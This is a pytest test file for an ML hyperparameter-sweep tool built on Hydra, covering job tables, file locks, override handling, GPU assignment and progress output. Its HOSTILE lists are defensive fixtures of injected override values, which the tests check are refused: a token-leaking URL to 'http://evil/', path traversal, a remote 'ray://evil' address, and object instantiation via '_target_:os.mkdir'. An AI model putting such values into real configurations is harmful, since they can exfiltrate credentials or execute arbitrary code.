"""Numbers, locks and the table of a sweep's jobs; the line of progress."""

import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from quartet.config.overrides import is_job_override
from quartet.core import files as locks
from quartet.core.problems import ConfigError
from quartet.records import run_directory as record
from quartet.records.sweep import Job, Table, list_jobs
from quartet.sweeps import directory, launch
from quartet.sweeps.launch import Progress, resume_overrides


def finish(job: Job, status: str = "finished", best: float | None = None, **monitor: Any) -> None:
    result = record.initial_result() | {"status": status}
    result["monitor"] |= {"best": best, **monitor}
    record.write_result(job.directory, result)


def write_table(folder: Path, *overrides: Any, command: Sequence[str] = (), **more: Any) -> None:
    """A sweep of one job, as it may come from elsewhere."""
    folder.mkdir(exist_ok=True)
    job = {"overrides": overrides, "conf": "", **more}
    (folder / "sweep.json").write_text(json.dumps({"command": command, "jobs": {"0": job}}))


def refusal(table: Path, capsys: pytest.CaptureFixture[str]) -> str:
    with pytest.raises(SystemExit, match="2"):
        directory.with_sweep([f"sweep.resume={table}"])
    return capsys.readouterr().err


# The table


def test_table_keeps_numbers_and_overrides(tmp_path: Path) -> None:
    table = Table(tmp_path)
    with table.changing():
        first = table.add(["seed=0", "optimizer=sgd"], "c")
        table.add(["seed=1"], "c")
        table.command = ["seed=0,1"]
    again = Table(tmp_path)
    assert again.jobs == table.jobs
    assert again.command == ["seed=0,1"]
    assert again.jobs[0].key == Job(tmp_path / "9", ["optimizer=sgd", "seed=0"], "d").key
    assert [job.number for job in again.current] == [0, 1]
    assert first.directory == tmp_path / "0"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["sweep.json"]


def test_new_number_is_one_that_no_directory_has(tmp_path: Path) -> None:
    (tmp_path / "0").mkdir()
    table = Table(tmp_path)
    assert table.add([], "").number == 1
    (tmp_path / "2").mkdir()
    assert table.add([], "").number == 3


def test_jobs_are_those_of_directories_or_of_the_table_each_counted_once(tmp_path: Path) -> None:
    for name in ("10", "9", "pictures"):
        (tmp_path / name).mkdir()
    assert [job.number for job in list_jobs(tmp_path)] == [9, 10]
    table = Table(tmp_path)
    table.add(["seed=0"], "").retried_as = 1
    table.add(["seed=0"], "")
    table.write()
    assert [job.number for job in Table(tmp_path).current] == [1]
    assert [job.number for job in list_jobs(tmp_path)] == [1]


def test_table_of_version_0_1_is_read_and_a_damaged_one_refused(tmp_path: Path) -> None:
    write_table(tmp_path, "seed=0", retried_as=None, ended="killed by signal 9")
    assert Table(tmp_path).jobs[0].exit_reason == "killed by signal 9"
    (tmp_path / "sweep.json").write_text("{")
    with pytest.raises(ValueError, match=r"sweep\.json is no table .* name another directory"):
        Table(tmp_path)


@pytest.mark.parametrize(
    ("status", "pending"),
    [("finished", False), ("failed", False), ("refused", False), ("interrupted", True)],
)
def test_unfinished_jobs_are_pending(status: str, pending: bool, tmp_path: Path) -> None:
    job = Job(tmp_path / "0", [], "")
    assert job.is_pending
    finish(job, status)
    assert job.is_pending == pending


def test_job_resumes_from_its_checkpoints_in_a_record_of_its_own(tmp_path: Path) -> None:
    job = Job(tmp_path / "0", [], "")
    assert resume_overrides(job) == []
    (job.directory / ".hydra").mkdir(parents=True)
    (job.directory / ".hydra/config.yaml").write_text("seed: 0")
    assert resume_overrides(job) == []  # it was killed before it saved anything, and starts anew
    (job.directory / "checkpoints").mkdir()
    (job.directory / "checkpoints" / "last.ckpt").touch()
    place = f"resume='{job.directory}'"
    assert resume_overrides(job) == [place, "hydra.output_subdir=null"]


# Locks

LOCK = """
import os, sys, time
from pathlib import Path
from quartet.core import files as locks
assert locks.try_lock(Path(sys.argv[1]))
if not os.fork():  # such as one that reads batches
    print(os.getpid(), flush=True)
time.sleep(60)
"""


def test_directory_is_free_again_when_its_process_is_killed(tmp_path: Path) -> None:
    command = [sys.executable, "-c", LOCK, str(tmp_path)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout
        child = int(process.stdout.readline())
        assert not locks.try_lock(tmp_path)
        taken = rf"another process trains in .*: process {process.pid} on .*; wait until it ends"
        with pytest.raises(ConfigError, match=taken), locks.lock(tmp_path):
            pass
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert locks.try_lock(tmp_path)
        os.kill(child, signal.SIGKILL)
    assert locks.try_lock(tmp_path)  # it is ours
    locks.unlock(tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_lock_without_a_file_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(locks, "try_lock", lambda directory: False)  # and no .lock file is there
    with pytest.raises(ConfigError, match="unknown; wait until it ends"), locks.lock(tmp_path):
        pass


COUNT = """
import sys
from collections.abc import Sequence
from pathlib import Path
from quartet.core import files as locks
folder = Path(sys.argv[1])
for _ in range(30):
    with locks.lock(folder, wait=True):
        value = int((folder / "count").read_text())
        (folder / "count").write_text(str(value + 1))
"""


def test_processes_that_wait_for_a_lock_never_hold_it_together(tmp_path: Path) -> None:
    (tmp_path / "count").write_text("0")
    command = [sys.executable, "-c", COUNT, str(tmp_path)]
    processes = [subprocess.Popen(command) for _ in range(3)]
    assert [process.wait(60) for process in processes] == [0, 0, 0]
    assert (tmp_path / "count").read_text() == "90"


def test_processes_go_with_the_first(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOCAL_RANK", "1")
    assert locks.try_lock(tmp_path)
    assert list(tmp_path.iterdir()) == []


# The command line


def test_settings_of_a_sweep_need_no_plus() -> None:
    given = ["-m", "seed=0,1", "sweep.retry=failed", "launcher=local", "launcher.n_jobs=4"]
    assert directory.with_sweep(given) == [
        *("-m", "seed=0,1", "hydra.sweeper.retry=failed", "launcher=local"),
        "hydra.launcher.n_jobs=4",
    ]


def test_resuming_a_sweep_takes_what_it_was_started_with(tmp_path: Path) -> None:
    table = Table(tmp_path)
    table.add(["seed=0"], "")
    table.command = ["seed=0,1", "launcher=local", "hydra.launcher.n_jobs=2"]
    table.write()
    again = directory.with_sweep([f"sweep.resume={tmp_path}", "launcher.n_jobs=4"])
    assert again == [
        *("-m", f"hydra.sweeper.resume={tmp_path}", "hydra.launcher.n_jobs=4"),
        *("seed=0,1", "launcher=local", f"hydra.sweep.dir='{tmp_path}'"),
    ]
    alone = directory.with_sweep([f"sweep.resume={tmp_path}", "launcher=basic"])
    assert not [each for each in alone if "n_jobs" in each]  # another launcher, other settings


HOSTILE = [
    *("resume=mine", "+directory=mine", "hydra.sweep.dir=mine", "hydra/launcher=basic", 7),
    *("--experimental-rerun=a.pickle", "~hydra.callbacks", "launcher=ray", "sweep.n_trials=9"),
    *(" hydra.run.dir=mine", "+hydra.job.env_set.GIT_CONFIG_COUNT='1'", "++check=only"),
    *("hydra.searchpath=[pkg://evil]", "model.weights='http://evil/${oc.env:MY_TOKEN}'"),
    *("model=../../../evil", "model@hydra.callbacks=mlp", "model.weights='${zz}//evil'"),
    *("+loss.a={_target_:os.mkdir}", "logger.tensorboard.save_dir=/x", "data.dir=/x"),
    *("callbacks.best.dirpath=/x", "trainer.profiler={a:b}"),
]


@pytest.mark.parametrize("override", HOSTILE)
def test_record_of_a_sweep_sets_trainings_alone(
    override: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_table(tmp_path, "seed=1", override)
    words = "may come from elsewhere, and sets more than trainings"
    assert words in refusal(tmp_path, capsys)


@pytest.mark.parametrize(
    "override",
    [
        *("hydra.launcher.address=ray://evil:1", "hydra.launcher.env=[MY_TOKEN]"),
        *("+hydra.launcher.setup=[touch canary]", "hydra.searchpath=[pkg://evil]"),
        *("hydra.job.chdir=true", "--config-dir=/x", "hydra.sweeper.storage=sqlite:////x.db"),
        *("hydra.launcher.n_jobs={_target_:sympy.sympify}", "hydra.sweeper.retry=${oc.env:A}"),
    ],
)
def test_recorded_command_starts_nothing_elsewhere(override: str, tmp_path: Path) -> None:
    write_table(tmp_path, "seed=1", command=["seed=1,2", override])
    with pytest.raises(SystemExit, match="2"):
        directory.with_sweep([f"sweep.resume={tmp_path}"])
    if override.startswith("hydra."):  # what is typed here replaces the record's
        kept = directory.with_sweep([f"sweep.resume={tmp_path}", override])
        assert kept[3:] == ["seed=1,2", f"hydra.sweep.dir='{tmp_path}'"]


SETTINGS = ["seed=1", "optimizer=sgd", "+loss.by=raise", "~scheduler", "data/task=binary"]


@pytest.mark.parametrize("override", [*SETTINGS, "checkpoint.x=1"])
def test_settings_of_a_training_are_job_overrides(override: str) -> None:
    assert is_job_override(override)


# Processes


def test_cores_and_gpus_are_divided_among_the_slots(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(launch, "count_cores", lambda: 8)

    def gpus(slots: int, each: int, *names: str) -> list[str]:
        made = launch.environments(slots, each, names, given={})
        return [environment["CUDA_VISIBLE_DEVICES"] for environment in made]

    assert gpus(2, 1, "0", "1") == ["0", "1"]
    assert gpus(2, 2, "0", "1", "2", "3") == ["0,1", "2,3"]
    assert gpus(3, 1, "4", "7") == ["4", "7", "4"]  # shared
    assert gpus(1, 4, "0", "1") == ["0,1"]
    assert launch.environments(3, 1, [], given={}) == [{"OMP_NUM_THREADS": "2"}] * 3
    assert launch.environments(16, 1, [], given={})[0] == {"OMP_NUM_THREADS": "1"}
    assert launch.environments(1, 1, [], given={}) == [{}]  # torch divides them itself
    assert launch.environments(2, 1, [], given={"OMP_NUM_THREADS": "5"}) == [{}, {}]


def test_flags_of_the_configuration_reach_the_jobs() -> None:
    given = ["-m", "-cd", "mine", "--config-name=other", "seed=1", "-cp=/conf"]
    flags = ["--config-path", "/conf", "--config-name", "other", "--config-dir", "mine"]
    assert launch.config_flags(given) == flags
    assert launch.config_flags(["-m", "seed=1"]) == []


def test_resumed_process_reads_its_record(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[list[str]] = []
    program = launch.Program(["train.py"], ["--config-dir", "x"])
    note = lambda command, **kwargs: started.append(command)  # noqa: E731
    monkeypatch.setattr(launch.subprocess, "Popen", note)
    monkeypatch.setattr(launch, "visible_gpus", list)
    monkeypatch.setattr(launch, "make_program", lambda config: program)
    launcher: Any = SimpleNamespace(config=None, n_jobs=2, gpus_per_job=1)
    engine = launch.LocalEngine(launcher)
    words = ["seed=1", "logger.csv.name=a b", "data.dir=/scratch"]
    jobs_ = [Job(tmp_path / str(number), words, "") for number in range(2)]
    (jobs_[1].directory / "checkpoints").mkdir(parents=True)
    (jobs_[1].directory / "checkpoints" / "last.ckpt").touch()
    assert engine.submit(jobs_) == [0, 1]
    for _, _, output in engine.running.values():
        output.close()
    numbers = [[f"hydra.job.num={number}", f"hydra.job.id={number}"] for number in range(2)]
    assert started == [
        [
            *("train.py", "--config-dir", "x", *words),
            *(f"hydra.run.dir='{tmp_path / '0'}'", *numbers[0]),
        ],
        # Its record says what is trained, and not where something is written.
        ["train.py", f"resume='{tmp_path / '1'}'", *words[1:], *numbers[1]],
    ]


# Progress


def test_each_line_shows_the_progress(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(tmp_path)
    made = [table.add(["data=wine", f"seed={seed}"], "") for seed in range(5)]
    finish(made[0], best=0.5, metric="val/accuracy", mode="max")
    progress = Progress(table.current)
    assert str(progress) == "sweep: 1 of 5 done, best val/accuracy 0.5 (job 0)"
    finish(made[1], best=0.75, metric="val/accuracy", mode="max")
    progress.end(made[1])
    finish(made[2], "failed")
    progress.end(made[2])
    progress.end(made[3], "killed by signal 9")
    lines = capsys.readouterr().err.splitlines()
    assert [line.partition(";")[0] for line in lines] == [
        "job 1 (seed=1) finished",
        "job 2 (seed=2) failed",
        "job 3 (seed=3) killed by signal 9",
    ]
    best = r"1 failed, best val/accuracy 0\.75 \(job 1\), about 0:00:0\d left$"
    assert re.search(f"; sweep: 2 of 5 done, {best}", lines[1])
    finish(made[4], "refused")
    progress.update(made[4])
    assert "sweep: 2 of 5 done, 1 failed, 1 refused, best " in str(progress)


def test_no_sweep_and_links_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert "holds no sweep: " in refusal(tmp_path, capsys)
    write_table(tmp_path / "sweep", "seed=1")
    (tmp_path / "sweep" / "0").symlink_to(tmp_path / "mine")
    assert "is a link to" in refusal(tmp_path / "sweep", capsys)
    with pytest.raises(SystemExit, match="2"):
        directory.find_run(tmp_path / "sweep")
    assert "is a link to" in capsys.readouterr().err
